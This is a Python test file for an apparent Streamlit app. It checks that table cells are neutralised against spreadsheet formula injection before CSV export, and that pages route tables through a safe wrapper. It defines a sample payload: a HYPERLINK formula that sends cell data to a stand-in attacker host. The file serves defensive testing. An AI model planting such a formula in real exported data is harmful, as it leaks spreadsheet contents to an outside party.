"""Tables the UI shows cannot carry a live formula into a spreadsheet (item 9).

``st.dataframe``'s toolbar writes its cells to CSV as they are; every table of the UI therefore goes
through ``recdraft.ui.tables.dataframe``, which neutralises text cells like the project's own CSVs.
"""

from __future__ import annotations

import ast
from pathlib import Path

from recdraft.services import accounts
from recdraft.services._base import SYSTEM
from recdraft.ui.tables import csv_safe
from tests.ui.conftest import app_as, demo_template, ui_db, ui_db_url, ui_env  # noqa: F401 - fixtures

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"open")'


def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_the_rest_kept():
    rows = [{"Name": PAYLOAD, "Organisation": "@SUM(1)", "Votes": -5, "Active": True, "Note": "Article 26"}]
    assert csv_safe(rows) == [
        {"Name": "'" + PAYLOAD, "Organisation": "'@SUM(1)", "Votes": -5, "Active": True, "Note": "Article 26"}
    ]
    assert csv_safe({"A": ["+1", "ok"]}) == {"A": ["'+1", "ok"]}
    assert csv_safe([["\t=1", 2]]) == [["'\t=1", 2]]


def _dataframe_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "dataframe"
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == "st"
    ]


def test_no_page_calls_st_dataframe_directly():
    direct = [
        f"{path.relative_to(ROOT)}:{line}"
        for path in sorted((ROOT / "recdraft" / "ui").rglob("*.py"))
        if path.name != "tables.py"
        for line in _dataframe_calls(path)
    ]
    direct += [f"streamlit_app.py:{line}" for line in _dataframe_calls(ROOT / "streamlit_app.py")]
    assert direct == [], "use recdraft.ui.tables.dataframe, which makes the CSV download safe"


def test_the_accounts_table_of_the_admin_page_shows_a_formula_name_as_text(app_as, ui_db):  # noqa: F811
    accounts.create_user(ui_db, actor_id=SYSTEM, username="mallory", display_name=PAYLOAD, password="a long password")
    at = app_as("admin", "recdraft/ui/pages/admin.py")
    assert not at.exception
    cells = [str(v) for df in at.dataframe for v in df.value.to_numpy().ravel()]
    assert [c for c in cells if PAYLOAD in c] == ["'" + PAYLOAD]
